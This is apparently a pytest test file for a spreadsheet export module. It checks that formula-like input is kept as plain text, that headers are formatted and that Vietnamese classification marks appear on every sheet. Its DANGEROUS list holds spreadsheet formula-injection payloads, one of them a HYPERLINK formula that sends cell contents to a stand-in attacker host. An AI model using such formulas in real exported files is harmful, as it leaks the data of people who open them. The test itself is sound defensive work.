"""The .xlsx writer never writes a formula from data."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from vigil.core.classification import Classification
from vigil.core.xlsx import XLSX_TYPE, Sheet, workbook_bytes, xlsx_response

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_like_text_round_trips_as_text_not_a_formula() -> None:
    data = workbook_bytes([Sheet("Danh sách", ["Giá trị", "Số"], [[v, 1] for v in DANGEROUS])])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws is not None
    for row, value in enumerate(DANGEROUS, start=2):
        cell = ws.cell(row=row, column=1)
        # openpyxl writes through lxml (a dependency since the document builders), which
        # escapes a lone CR, so the text comes back exactly as typed.
        assert cell.value == value
        assert cell.data_type == "s"
        assert cell.quotePrefix is True
    assert ws.cell(row=2, column=2).value == 1


def test_header_is_bold_and_frozen_and_columns_have_widths() -> None:
    data = workbook_bytes(
        [Sheet("T", ["Tên", "Ngày"], [["Sở Công Thương tỉnh Quảng Ninh", dt.date(2026, 1, 5)]])]
    )
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws is not None
    assert ws["A1"].font.bold and ws["B1"].font.bold
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width >= len("Sở Công Thương tỉnh Quảng Ninh")
    assert ws["B2"].number_format == "dd/mm/yyyy"
    assert ws["A2"].quotePrefix is False  # ordinary text stays ordinary


def test_the_response_helper_sets_a_safe_download() -> None:
    response = xlsx_response("Danh bạ liên lạc", [Sheet("T", ["a"], [["=1"]])])
    assert response["Content-Type"] == XLSX_TYPE
    assert (
        "filename*=UTF-8''Danh%20b%E1%BA%A1%20li%C3%AAn%20l%E1%BA%A1c.xlsx"
        in (response["Content-Disposition"])
    )
    assert response["X-Content-Type-Options"] == "nosniff"


def _book(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


MARKS = [(Classification.CONFIDENTIAL, "MẬT"), (Classification.SECRET, "TỐI MẬT"),
         (Classification.TOP_SECRET, "TUYỆT MẬT")]  # fmt: skip


@pytest.mark.parametrize(("level", "mark"), MARKS)
def test_a_classified_workbook_marks_every_sheet_above_its_headers_and_in_print(
    level: int, mark: str
) -> None:
    sheets = [Sheet("Tổng hợp", ["Chỉ tiêu", "Giá trị"], [["Số vụ việc", 7]]),
              Sheet("Theo đơn vị", ["Đơn vị"], [["Sở Công Thương"]])]  # fmt: skip
    book = _book(workbook_bytes(sheets, classification=level))
    for ws in book.worksheets:
        assert ws["A1"].value == mark
        assert ws["A1"].font.bold
        assert ws.oddHeader.center.text == mark
        assert ws.oddFooter.center.text == mark
        assert ws.freeze_panes == "A3"  # the mark and the headers stay in view
        assert ws.print_title_rows == "$1:$2"
    first, second = book.worksheets
    assert [first["A2"].value, first["B2"].value] == ["Chỉ tiêu", "Giá trị"]
    assert first["A2"].font.bold
    assert [first["A3"].value, first["B3"].value] == ["Số vụ việc", 7]
    assert "A1:B1" in {str(r) for r in first.merged_cells.ranges}
    assert second["A2"].value == "Đơn vị" and second["A3"].value == "Sở Công Thương"
    assert book.properties.keywords == mark and book.properties.category == mark


def test_an_unclassified_workbook_carries_no_mark() -> None:
    sheet = Sheet("T", ["Tên"], [["Sở Công Thương"]])
    plain = workbook_bytes([sheet])
    book = _book(plain)
    ws = book.worksheets[0]
    assert ws["A1"].value == "Tên" and ws["A2"].value == "Sở Công Thương"
    assert ws.freeze_panes == "A2"
    assert not ws.oddHeader.center.text and not ws.oddFooter.center.text
    assert not book.properties.keywords and not book.properties.category
    archive = zipfile.ZipFile(io.BytesIO(plain))
    text = "".join(archive.read(n).decode() for n in archive.namelist())
    assert "MẬT" not in text


def test_the_response_helper_passes_the_level_on() -> None:
    response = xlsx_response("x", [Sheet("T", ["a"], [["b"]])], classification=2)
    assert _book(response.content).worksheets[0]["A1"].value == "TỐI MẬT"
